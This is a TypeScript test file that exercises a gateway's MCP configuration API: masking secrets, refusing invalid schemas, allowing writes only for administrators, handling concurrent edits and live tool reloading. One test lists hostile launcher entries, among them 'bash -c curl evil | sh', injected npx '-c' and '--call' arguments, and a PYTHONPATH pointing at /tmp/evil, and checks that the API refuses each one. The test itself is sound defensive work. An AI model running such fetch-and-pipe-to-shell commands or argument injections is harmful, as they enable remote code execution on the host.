import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { writeFileAtomic } from "../../../adapters/shared/extension-manager-host.ts";
import type { AgentAssemblyDescriptor } from "../../../src/extension-api/index.ts";
import { LiveMcpConfig, type ExtensionsConfigFile } from "../../../src/mcp/index.ts";
import { validateLeadConfig } from "../../../src/agents/app-config.ts";
import { openGateway, type GatewayHost } from "../../../src/cli/serve.ts";
import { systemClock } from "../../../src/core/clock.ts";
import { createVirtualSandboxProvider } from "../../../src/sandbox/virtual.ts";
import { createMemoryKeyValue } from "../../../src/storage/key-value.ts";
import { mapEnv } from "../../../src/core/env.ts";
import { acceptanceGateways, call, human } from "../../fixtures/plugins/gateway-harness.ts";
import { startTestMcpServer, type TestMcpServer } from "../../mcp/http-server.ts";
import { auth, admin, user, withBody, ENV as CALLER_ENV, assemblyObservingLoader } from "./ui-callers.ts";

/*
 * Settings → Tools as DeerFlow's UI uses it (GET, PUT, PATCH /api/mcp/config) through a real
 * gateway with api_key auth, over a real extensions_config.json in a temporary folder: secrets
 * masked and kept across the UI's round trip, schema failures refused with the file untouched,
 * administrators only for writes, concurrent toggles both kept, and the next run's MCP tools
 * following the file (a real Streamable HTTP MCP server in this process) without a restart.
 */

const ENV = { ...CALLER_ENV, GITHUB_TOKEN_REF: "from-env" };

const SECRET = "ghp_verysecret_0123456789";
const BEARER = "Bearer sk-live-abcdef987654";

let mcpServer: TestMcpServer;
let dir: string;
let fileName: string;
const live: LiveMcpConfig[] = [];

beforeAll(async () => {
  mcpServer = await startTestMcpServer();
});
afterAll(async () => {
  await mcpServer.close();
});
afterEach(async () => {
  await Promise.all(live.splice(0).map((config) => config.close()));
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function freshFile(content: unknown): Promise<void> {
  dir = await mkdtemp(join(tmpdir(), "ui-mcp-"));
  fileName = join(dir, "extensions_config.json");
  await writeFileAtomic(fileName, JSON.stringify(content, null, 2));
}

const readText = async (): Promise<string | undefined> => readFile(fileName, "utf8").catch(() => undefined);
const readJson = async (): Promise<any> => JSON.parse((await readText())!);

function diskFile(options: { writable?: boolean; beforeWrite?: () => Promise<void> } = {}): ExtensionsConfigFile {
  return {
    fileName,
    read: readText,
    ...(options.writable === false
      ? {}
      : {
          write: async (text: string) => {
            await options.beforeWrite?.();
            await writeFileAtomic(fileName, text);
          },
        }),
  };
}


const gatewayWith = acceptanceGateways(() => ({ env: ENV }));

async function mcpGateway(file: ExtensionsConfigFile = diskFile(), seen: AgentAssemblyDescriptor[] = []) {
  const mcpConfig = new LiveMcpConfig({ file, env: mapEnv(ENV) });
  live.push(mcpConfig);
  const { gateway } = await gatewayWith(
    { gateway: { auth }, plugins: [{ use: "./observer.ts:install" }] },
    { loader: assemblyObservingLoader(seen), mcpConfig },
  );
  return gateway;
}

const github = {
  enabled: true,
  type: "stdio",
  command: "npx",
  args: ["-y", "@modelcontextprotocol/server-github"],
  env: { GITHUB_TOKEN: SECRET, FROM_ENV: "$GITHUB_TOKEN_REF" },
  description: "GitHub MCP server",
};
const remote = { enabled: false, type: "http", url: "https://mcp.example.com/mcp", headers: { Authorization: BEARER }, description: "" };

describe("/api/mcp/config", () => {
  it("shows every user the servers with their secrets masked; placeholders are shown as written", async () => {
    await freshFile({ mcpServers: { github, remote }, skills: { pdf: { enabled: false } } });
    const gateway = await mcpGateway();
    const read = await call(gateway, "GET", "/api/mcp/config", user);
    expect(read.status).toBe(200);
    expect(read.body.mcp_servers.github).toMatchObject({ enabled: true, command: "npx", description: "GitHub MCP server", env: { GITHUB_TOKEN: "***", FROM_ENV: "$GITHUB_TOKEN_REF" } });
    expect(read.body.mcp_servers.remote).toMatchObject({ enabled: false, url: "https://mcp.example.com/mcp", headers: { Authorization: "***" } });
    expect(JSON.stringify(read.body)).not.toContain("verysecret");
    expect(JSON.stringify(read.body)).not.toContain("sk-live");
  });

  it("keeps the stored secrets when the UI sends the masked config back, and never echoes them", async () => {
    await freshFile({ mcpServers: { github, remote }, skills: { pdf: { enabled: false } }, mcpInterceptors: ["x"] });
    const gateway = await mcpGateway();
    const masked = (await call(gateway, "GET", "/api/mcp/config", admin)).body;
    masked.mcp_servers.github.description = "GitHub, edited";
    const put = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, masked));
    expect(put.status).toBe(200);
    expect(put.body.mcp_servers.github).toMatchObject({ description: "GitHub, edited", env: { GITHUB_TOKEN: "***" } });
    expect(JSON.stringify(put.body)).not.toContain("verysecret");
    const onDisk = await readJson();
    expect(onDisk.mcpServers.github.env).toEqual({ GITHUB_TOKEN: SECRET, FROM_ENV: "$GITHUB_TOKEN_REF" });
    expect(onDisk.mcpServers.github.description).toBe("GitHub, edited");
    expect(onDisk.mcpServers.remote.headers).toEqual({ Authorization: BEARER });
    // The file's other sections are not this route's and stay as they were.
    expect(onDisk.skills).toEqual({ pdf: { enabled: false } });
    expect(onDisk.mcpInterceptors).toEqual(["x"]);

    const patched = await call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "github", enabled: false }));
    expect(patched.status).toBe(200);
    expect(patched.body.mcp_servers.github).toMatchObject({ enabled: false, env: { GITHUB_TOKEN: "***" } });
    expect(JSON.stringify(patched.body)).not.toContain("verysecret");
    expect((await readJson()).mcpServers.github.env.GITHUB_TOKEN).toBe(SECRET);

    // A new secret replaces the old one; "***" for a key the server never had is refused.
    masked.mcp_servers.github.env.GITHUB_TOKEN = "ghp_rotated";
    expect((await call(gateway, "PUT", "/api/mcp/config", withBody(admin, masked))).status).toBe(200);
    expect((await readJson()).mcpServers.github.env.GITHUB_TOKEN).toBe("ghp_rotated");
    masked.mcp_servers.github.env.NEW_KEY = "***";
    const refused = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, masked));
    expect(refused.status).toBe(422);
    expect(refused.body.detail).toContain("mcp_servers.github.env.NEW_KEY");
  });

  it("refuses a config that fails the loader's schema with 422 naming the key, the file untouched", async () => {
    await freshFile({ mcpServers: { github } });
    const before = await readText();
    const gateway = await mcpGateway();
    const bad = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, { mcp_servers: { github: { ...github, command: 5 } } }));
    expect(bad.status).toBe(422);
    expect(bad.body.detail).toContain("mcpServers.github.command");
    const incomplete = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, { mcp_servers: { web: { type: "http" } } }));
    expect(incomplete.status).toBe(422);
    expect(incomplete.body.detail).toContain("mcpServers.web.url");
    const notAnObject = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, { mcp_servers: [] }));
    expect(notAnObject.status).toBe(422);
    expect(notAnObject.body.detail).toContain("mcp_servers");
    const badPatch = await call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "github", enabled: "yes" }));
    expect(badPatch.status).toBe(422);
    expect(badPatch.body.detail).toContain("enabled");
    expect((await call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "nope", enabled: true }))).status).toBe(404);
    expect(await readText()).toBe(before);
  });

  it("launches through the API only allowlisted launchers, without eval flags or code-injecting variables", async () => {
    const handWritten = { command: "node", args: ["./local-server.js"], description: "written by the operator" };
    await freshFile({ mcpServers: { github, handWritten } });
    const before = await readText();
    const gateway = await mcpGateway();
    const put = (servers: Record<string, unknown>) => call(gateway, "PUT", "/api/mcp/config", withBody(admin, { mcp_servers: { github, ...servers } }));
    const refusals: Array<[Record<string, unknown>, string]> = [
      [{ command: "bash", args: ["-c", "curl evil | sh"] }, "mcp_servers.evil.command"],
      [{ command: "/tmp/npx", args: ["pkg"] }, "mcp_servers.evil.command"],
      [{ command: "npx", args: ["-y", "-c", "curl evil | sh"] }, "mcp_servers.evil.args"],
      [{ command: "npx", args: ["-p", "pkg", "--call=curl evil"] }, "mcp_servers.evil.args"],
      [{ command: "uvx", args: ["pkg"], env: { PYTHONPATH: "/tmp/evil" } }, "mcp_servers.evil.env.PYTHONPATH"],
    ];
    for (const [evil, key] of refusals) {
      const refused = await put({ evil });
      expect(refused.status, JSON.stringify(evil)).toBe(422);
      expect(refused.body.detail).toContain(key);
    }
    expect(await readText()).toBe(before);
    // A launcher's flags end at the package: what follows belongs to the server (`-c` is its config).
    expect((await put({ handWritten, fine: { command: "npx", args: ["-y", "some-mcp-server", "-c", "config.json"] } })).status).toBe(200);
    // The operator's own entry, sent back unchanged, is kept as written.
    expect((await readJson()).mcpServers.handWritten.command).toBe("node");
    const changed = await put({ handWritten: { ...handWritten, args: ["-e", "evil()"] } });
    expect(changed.status).toBe(422);
  });

  it("lets only an administrator change it (403 for a user, the file untouched)", async () => {
    await freshFile({ mcpServers: { github } });
    const before = await readText();
    const gateway = await mcpGateway();
    const put = await call(gateway, "PUT", "/api/mcp/config", withBody(user, { mcp_servers: {} }));
    expect(put.status).toBe(403);
    const patch = await call(gateway, "PATCH", "/api/mcp/config", withBody(user, { server_name: "github", enabled: false }));
    expect(patch.status).toBe(403);
    expect(await readText()).toBe(before);
  });

  it("keeps both of two concurrent toggles", async () => {
    await freshFile({ mcpServers: { github: { ...github, enabled: false }, remote } });
    // Every write waits a little, so two unserialized read-modify-writes would both read the old file.
    const gateway = await mcpGateway(diskFile({ beforeWrite: () => new Promise((resolve) => setTimeout(resolve, 20)) }));
    const [a, b] = await Promise.all([
      call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "github", enabled: true })),
      call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "remote", enabled: true })),
    ]);
    expect([a.status, b.status]).toEqual([200, 200]);
    const onDisk = await readJson();
    expect(onDisk.mcpServers.github.enabled).toBe(true);
    expect(onDisk.mcpServers.remote.enabled).toBe(true);
  });

  it("keeps a change another gateway process made to the file while this one was writing", async () => {
    await freshFile({ mcpServers: { github: { ...github, enabled: false }, remote } });
    let reads = 0;
    const file = diskFile();
    const racing: ExtensionsConfigFile = {
      ...file,
      read: async () => {
        reads += 1;
        // Between this process's read and its write, another process enables "remote".
        if (reads === 2) {
          const other = await readJson();
          other.mcpServers.remote.enabled = true;
          await writeFileAtomic(fileName, JSON.stringify(other));
        }
        return file.read();
      },
    };
    const gateway = await mcpGateway(racing);
    reads = 0;
    const patch = await call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "github", enabled: true }));
    expect(patch.status).toBe(200);
    const onDisk = await readJson();
    expect(onDisk.mcpServers.github.enabled).toBe(true);
    expect(onDisk.mcpServers.remote.enabled).toBe(true);
  });

  it("answers a clear 409 where the file cannot be written; reading still works", async () => {
    await freshFile({ mcpServers: { github } });
    const gateway = await mcpGateway(diskFile({ writable: false }));
    expect((await call(gateway, "GET", "/api/mcp/config", user)).body.mcp_servers.github.env.GITHUB_TOKEN).toBe("***");
    const put = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, { mcp_servers: {} }));
    expect(put.status).toBe(409);
    expect(put.body.detail).toMatch(/cannot be written here/);
    expect((await readJson()).mcpServers.github.env.GITHUB_TOKEN).toBe(SECRET);
  });

  it("a gateway without a file lists no servers and refuses writes", async () => {
    const { gateway } = await gatewayWith({ gateway: { auth } });
    expect((await call(gateway, "GET", "/api/mcp/config", user)).body).toEqual({ mcp_servers: {} });
    expect((await call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "x", enabled: true }))).status).toBe(409);
  });

  it("gives the next run the MCP tools of the file as it is then, without a restart", async () => {
    await freshFile({ mcpServers: {} });
    const seen: AgentAssemblyDescriptor[] = [];
    const gateway = await mcpGateway(diskFile(), seen);
    const run = async (threadId: string) => {
      await call(gateway, "POST", "/api/threads", withBody(admin, { thread_id: threadId }));
      const response = await call(gateway, "POST", `/api/threads/${threadId}/runs/wait`, withBody(admin, { input: human("hello") }));
      expect(response.status).toBe(200);
      return seen.at(-1)!.tools.filter((tool) => tool.mcp_server !== null).map((tool) => tool.name);
    };
    expect(await run("t-before")).toEqual([]);

    const calc = { type: "http", url: mcpServer.url, description: "calculator" };
    const put = await call(gateway, "PUT", "/api/mcp/config", withBody(admin, { mcp_servers: { calc } }));
    expect(put.status).toBe(200);
    expect(await run("t-after-put")).toEqual(expect.arrayContaining(["calc_add", "calc_count"]));

    expect((await call(gateway, "PATCH", "/api/mcp/config", withBody(admin, { server_name: "calc", enabled: false }))).status).toBe(200);
    expect(await run("t-after-disable")).toEqual([]);

    // A change made by hand (or by another gateway process over the same file) counts too.
    await writeFileAtomic(fileName, JSON.stringify({ mcpServers: { maths: calc } }));
    expect(await run("t-after-hand-edit")).toEqual(expect.arrayContaining(["maths_add"]));
  });
});

describe("serve's gateway and extensions_config.json", () => {
  /** The host `serve` assembles the gateway from, with its files in a map. */
  function filesHost(files: Map<string, string>, writable: boolean): GatewayHost {
    const storage = createMemoryKeyValue();
    return {
      env: mapEnv({}),
      clock: systemClock,
      stderr: { write: () => undefined, isTTY: false },
      readFile: async (path) => files.get(path),
      ...(writable ? { writeFileAtomic: async (path: string, text: string) => void files.set(path, text) } : {}),
      createModuleLoader: () => ({ load: async () => ({}) }),
      createStorage: () => storage,
      createSandboxProvider: (_config, kv) => createVirtualSandboxProvider({ storage: kv }),
    };
  }

  it('"if extensions.middlewares is set in config.yaml or extensions_config.json": both files\' entries reach the agent, config.yaml\'s first, and the MCP routes keep the file\'s', async () => {
    const path = "/deploy/extensions_config.json";
    const section = { middlewares: ["./file-guard.ts:FileGuard", "./yaml-audit.ts:YamlAudit"] };
    const files = new Map([[path, JSON.stringify({ mcpServers: { github }, extensions: section })]]);
    const host: GatewayHost = {
      ...filesHost(files, true),
      createModuleLoader: () => ({
        load: async (specifier: string) =>
          specifier === "./yaml-audit.ts" ? { YamlAudit: class { readonly name = "YamlAudit"; } } : { FileGuard: class { readonly name = "FileGuard"; } },
      }),
    };
    const config = validateLeadConfig({ extensions: { middlewares: ["./yaml-audit.ts:YamlAudit"] } }, "config.yaml");
    const opened = await openGateway(host, { config, configDir: "/deploy", hostname: "127.0.0.1" });
    try {
      const me = { id: "u1", systemRole: "user" as const, authSource: "api_key" as const, isInternal: false, permissions: new Set<never>() };
      const names = (await opened.gateway.deps.agentFactory({ user: me })).middlewares.map((m) => m.name);
      // The entry both files name is loaded once, at config.yaml's place.
      expect(names.filter((name) => name === "YamlAudit" || name === "FileGuard")).toEqual(["YamlAudit", "FileGuard"]);
      const patch = await opened.gateway.fetch(
        new Request("http://localhost/api/mcp/config", { method: "PATCH", headers: { "content-type": "application/json" }, body: JSON.stringify({ server_name: "github", enabled: false }) }),
      );
      expect(patch.status).toBe(200);
      expect(JSON.parse(files.get(path)!).extensions).toEqual(section);
    } finally {
      await opened.close();
    }
    // A wrong value there stops the start, naming the file and the key.
    files.set(path, JSON.stringify({ extensions: { middlewares: [42] } }));
    await expect(openGateway(host, { config, configDir: "/deploy", hostname: "127.0.0.1" })).rejects.toThrow(/extensions_config\.json.*extensions\.middlewares\[0\]/);
    // A broken entry there fails as loudly as one in config.yaml, naming its file.
    files.set(path, JSON.stringify({ extensions: { middlewares: ["./file-guard.ts:Missing"] } }));
    await expect(openGateway(host, { config, configDir: "/deploy", hostname: "127.0.0.1" })).rejects.toThrow(
      /\/deploy\/extensions_config\.json: extensions\.middlewares\[0\] "\.\/file-guard\.ts:Missing": module "\.\/file-guard\.ts" has no export "Missing"/,
    );
  });

  it("writes the file beside the config through the host, and refuses where the host cannot write", async () => {
    const path = "/deploy/extensions_config.json";
    for (const writable of [true, false]) {
      const files = new Map([[path, JSON.stringify({ mcpServers: { github } })]]);
      const opened = await openGateway(filesHost(files, writable), { config: validateLeadConfig({}, "config.yaml"), configDir: "/deploy", hostname: "127.0.0.1" });
      try {
        const patch = await opened.gateway.fetch(
          new Request("http://localhost/api/mcp/config", { method: "PATCH", headers: { "content-type": "application/json" }, body: JSON.stringify({ server_name: "github", enabled: false }) }),
        );
        expect(patch.status).toBe(writable ? 200 : 409);
        expect(JSON.parse(files.get(path)!).mcpServers.github.enabled).toBe(!writable);
        expect(JSON.parse(files.get(path)!).mcpServers.github.env.GITHUB_TOKEN).toBe(SECRET);
      } finally {
        await opened.close();
      }
    }
  });
});

describe("LiveMcpConfig", () => {
  it("a run whose read of the file finished after a newer one's takes the newer state instead of reloading the old", async () => {
    const pending: Array<(text: string) => void> = [];
    const config = new LiveMcpConfig({ file: { fileName: "extensions_config.json", read: () => new Promise<string>((resolve) => pending.push(resolve)) } });
    live.push(config);
    const older = config.current();
    const newer = config.current();
    pending[1]!(JSON.stringify({ mcpServers: {} }));
    const newerTools = await newer;
    pending[0]!(JSON.stringify({ mcpServers: {}, skills: {} }));
    const olderTools = await older;
    expect(olderTools.revision).toBe(newerTools.revision);
  });
});
